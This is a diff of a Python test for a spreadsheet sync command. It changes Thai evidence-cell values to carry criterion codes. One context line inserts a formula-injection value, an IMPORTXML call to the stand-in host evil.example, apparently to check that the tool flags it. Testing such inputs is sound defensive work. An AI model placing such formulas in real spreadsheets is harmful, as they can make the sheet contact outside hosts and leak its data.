@@ -95,7 +95,7 @@ def test_sync_keeps_typed_cells_and_places_status_by_code(office, runner) -> Non
     assert invoke(runner, office.config, "setup").exit_code == 0
     office.put(TAB, f"{CRITERIA}2", "1-3")
     office.put(TAB, f"{RESULT}2", "ดำเนินการครบ")
-    office.put(TAB, f"{EVIDENCE}2", "แผนปฏิบัติการ")
+    office.put(TAB, f"{EVIDENCE}2", "1-3: แผนปฏิบัติการ")
     office.put(TAB, f"{REPORTED}2", "๑๘ มี.ค. ๒๕๗๐")
     office.put(TAB, f"{RESULT}3", '=IMPORTXML("http://evil.example","//a")')
     office.put(TAB, f"{CRITERIA}3", "1,2")
@@ -110,7 +110,7 @@ def test_sync_keeps_typed_cells_and_places_status_by_code(office, runner) -> Non
     assert f"{EVIDENCE}3:" in cell(grid, f"{ERRORS}3")
     # Rows inserted above: the next sync still puts each status beside its own code.
     office.insert_row(TAB, 2)
-    office.put(TAB, f"{EVIDENCE}4", "รายงานการประชุม")
+    office.put(TAB, f"{EVIDENCE}4", "1-2: รายงานการประชุม")
     office.put(TAB, f"{REPORTED}4", "2027-03-20")
     again = invoke(runner, office.config, "sync", "--json", "--today", DEMO_DAY)
     assert again.exit_code == 0, again.output
